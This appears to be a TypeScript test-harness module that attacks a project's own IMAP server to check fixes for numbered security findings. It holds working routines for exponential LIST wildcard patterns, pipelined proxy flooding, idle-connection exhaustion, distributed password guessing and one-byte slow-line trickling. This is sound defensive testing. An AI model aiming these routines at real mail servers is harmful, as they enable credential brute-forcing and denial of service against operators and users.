/**
 * @module
 * Attacks on the IMAP listener: exponential LIST patterns, proxy-mode
 * pipelining behind a silent upstream, idle connections from one source,
 * password guessing, long lines trickled one byte per segment.
 */

import { ATTACKER, attackerSources, AttackSocket, closedByServer, connectMany, destroyAll } from "../support/sock.ts";
import { bytes, cat } from "../support/wire.ts";
import { type AttackReport, type Bounds, over, pause, report } from "./common.ts";

/**
 * IMAP login (any credentials; `login = "any"`) then `LIST "" "<stars>Z"`
 * (finding 3). Resolves with the time the tagged reply took (`notes.listMs`,
 * -1 if none within the bound) and the reply.
 */
export async function imapListStars(port: number, b: Bounds & { stars?: number }): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  const greeted = await s.readUntil((x) => x.includes(10), 5000);
  if (!greeted) throw new Error("no IMAP greeting");
  await s.write("a LOGIN attacker x\r\n");
  await s.readUntil((x) => /\r\na [^\r]*\r\n/.test(new TextDecoder().decode(x)), 5000);
  const pattern = "*".repeat(b.stars ?? 85) + "Z";
  const before = s.received.length;
  const tList = performance.now();
  await s.write(`b LIST "" "${pattern}"\r\n`);
  const ok = await s.readUntil(
    (x) => /(^|\n)b [^\r]*\r\n/.test(new TextDecoder().decode(x.subarray(before))),
    Math.max(1, b.durationMs - (performance.now() - t0)),
  );
  const listMs = ok ? Math.round(performance.now() - tList) : -1;
  const reply = new TextDecoder().decode(s.received.subarray(before)).trim().split("\r\n").at(-1) ?? "";
  s.destroy();
  return report({ t0, connections: 1, notes: { listMs, reply: reply.slice(0, 120) } });
}

/**
 * Proxy mode (finding 4): one command the upstream never answers (`a NOOP`,
 * forwarded), then pipelined `GETMETADATA` lines that we answer locally but
 * must queue behind it, as fast as the socket takes them, never reading.
 * No login needed.
 */
export async function proxyPipelineFlood(port: number, b: Bounds & { maxBytes?: number }): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  await s.readUntil((x) => x.includes(10), 5000);
  await s.write("a NOOP\r\n");
  s.stopReading();
  const line = bytes('b GETMETADATA "" (/shared/comment /shared/admin /shared/vendor/deltachat/irohrelay)\r\n');
  const batch = cat(...Array.from({ length: 512 }, () => line)); // ~45 KiB
  let sent = 0;
  while (s.open && !over(b, t0) && sent < (b.maxBytes ?? 2 ** 30)) {
    await s.write(batch);
    sent += batch.length;
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent });
}

/**
 * Idle TCP connections from one source (finding 5, `n` = 1000 in the issue):
 * opened as fast as the server accepts them, held silent until the bound.
 * `onHeld` runs while they are held (the test's probes).
 */
export async function idleConnections(
  port: number,
  b: Bounds & { n: number; source?: string; onHeld?: () => Promise<void> },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, [b.source ?? ATTACKER], {
    concurrency: 50,
    timeoutMs: 2000,
    deadline: Date.now() + b.durationMs,
  });
  await b.onHeld?.();
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({ t0, connections: sockets.length, connectFailures: failed, closedByServer: closed });
}

/**
 * Password guessing (finding 6): `sessions` IMAP sessions spread over
 * `sources` addresses, each sending `LOGIN <user> guessN` again after every
 * answer until the bound. `notes` counts the answers by kind.
 */
export async function passwordGuessing(
  port: number,
  b: Bounds & { sessions: number; sources: number; user: string },
): Promise<AttackReport> {
  const t0 = performance.now();
  const counts = { no: 0, unavailable: 0, bye: 0, ok: 0, attempts: 0 };
  const { sockets, failed } = await connectMany(port, b.sessions, attackerSources(b.sources), {
    concurrency: 64,
    timeoutMs: 3000,
    deadline: Date.now() + b.durationMs,
  });
  await Promise.all(sockets.map(async (s, k) => {
    if (!await s.readUntil((x) => x.includes(10), 5000)) return;
    if (s.text().startsWith("* BYE")) {
      counts.bye++;
      return;
    }
    for (let n = 0; s.open && !over(b, t0); n++) {
      const tag = `g${n}`;
      const before = s.received.length;
      counts.attempts++;
      await s.write(`${tag} LOGIN "${b.user}" "guess-${k}-${n}"\r\n`);
      const re = new RegExp(`(^|\\n)(${tag} [^\\r]*|\\* BYE[^\\r]*)\\r\\n`);
      const got = await s.readUntil(
        (x) => re.test(new TextDecoder().decode(x.subarray(before))),
        Math.max(1, b.durationMs - (performance.now() - t0)),
      );
      if (!got) break;
      const text = new TextDecoder().decode(s.received.subarray(before));
      if (/\* BYE/.test(text)) counts.bye++;
      else if (/UNAVAILABLE/.test(text)) counts.unavailable++;
      else if (new RegExp(`${tag} OK`).test(text)) counts.ok++;
      else counts.no++;
    }
  }));
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({ t0, connections: sockets.length, connectFailures: failed, closedByServer: closed, notes: counts });
}

/**
 * A long IMAP line whose end arrives one byte at a time (finding 9):
 * `a LOGIN `, `prefix` bytes of an atom in one write, then `trickle` more
 * bytes one per write every `everyMs` (each its own TCP segment, no Nagle,
 * so each is its own read on the server while the line is already long).
 * Never sends the CRLF. A server that re-copies the buffer per read pays
 * `prefix` bytes of copying per trickled byte.
 */
export async function slowLongLine(
  port: number,
  b: Bounds & { prefix: number; trickle: number; everyMs?: number },
): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  await s.readUntil((x) => x.includes(10), 5000);
  await s.write("a LOGIN ");
  await s.write(new Uint8Array(b.prefix).fill(0x78));
  let sent = b.prefix;
  const one = bytes("x");
  for (let i = 0; i < b.trickle && s.open && !over(b, t0); i++) {
    await s.write(one);
    sent++;
    if (b.everyMs) await pause(b.everyMs, b.signal);
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent });
}
